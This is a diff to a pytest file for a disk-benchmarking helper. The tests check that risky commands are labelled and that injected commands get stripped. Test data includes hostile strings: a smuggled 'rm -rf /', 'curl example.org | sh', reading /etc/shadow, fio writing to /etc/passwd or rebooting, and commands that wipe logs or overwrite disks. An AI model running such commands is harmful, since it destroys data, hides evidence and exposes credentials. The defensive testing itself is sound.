@@ -22,6 +22,8 @@ COMMANDS = {
         "sudo smartctl -a /dev/sdb | grep Media",
         "hdparm -W /dev/sdb",
         "zpool iostat -v 5",
+        "ioping -c 5 /dev/sdb",
+        "pg_test_fsync -f /srv/t",
     ],
     Effect.MEASURE: [
         "fio --name=x --filename=/dev/sdb --rw=randread",
@@ -45,6 +47,16 @@ COMMANDS = {
         "cat /sys/block/sda/size /etc/shadow",
         "unknown --help",
         "fio 'unbalanced",
+        "ioping -WWW /dev/sdb",
+        "pg_test_fsync -f /dev/sdb",
+        "sort -o /dev/sdb x",
+        "dmesg -C",
+        "journalctl --vacuum-size=1",
+        "smartctl -a -s off /dev/sdb",
+        "zpool events -c",
+        "fio --name=x --filename=/dev/sdb --rw=read --output=/etc/passwd",
+        "fio --name=x --filename=/dev/sdb --rw=read --exec_prerun=reboot",
+        "fio --name=x --filename=/dev/sdb --rw=read --write_lat_log=/etc/x",
     ],
 }
 
@@ -65,6 +77,14 @@ def test_a_command_that_changes_something_is_shown_with_its_risk_only() -> None:
     assert [step.command for step in shown.next_steps] == [fail.command, ""]
 
 
+def test_a_device_that_the_text_wrote_to_is_named_before_it_is_written_again() -> None:
+    step = NextStep("Again.", "fio --name=x --filename=/dev/sdc --rw=randwrite --iodepth=1")
+    (shown,) = without_unnamed_risks(
+        Diagnosis(Verdict.LIMIT, "", next_steps=(step,)), OWN
+    ).next_steps
+    assert shown.command == step.command and "overwrites /dev/sdc" in shown.risk
+
+
 @pytest.mark.parametrize("folder", CASES, ids=lambda folder: folder.name)
 def test_no_case_proposes_a_change_without_its_risk(folder: Path) -> None:
     """Each proposed command is known by its effect: one that was left out names no risk where it is written."""
@@ -79,6 +99,8 @@ def test_no_case_proposes_a_change_without_its_risk(folder: Path) -> None:
 def test_what_stands_behind_the_askers_command_is_not_proposed() -> None:
     result = Result("fio", "x", command="$ fio --name=x --rw=randread; rm -rf / > /etc/passwd")
     assert edit_command(result, direct=1) == "fio --name=x --rw=randread --direct=1"
+    result = Result("fio", "x", command="fio --name=x --output=/etc/passwd --rw=read")
+    assert edit_command(result, direct=1) == "fio --name=x --rw=read --direct=1"
     result = Result("dd", "x", command="dd if=/dev/sda of=/dev/null bs=1M && curl example.org | sh")
     assert edit_command(result, iflag="direct") == "dd if=/dev/sda of=/dev/null bs=1M iflag=direct"
 
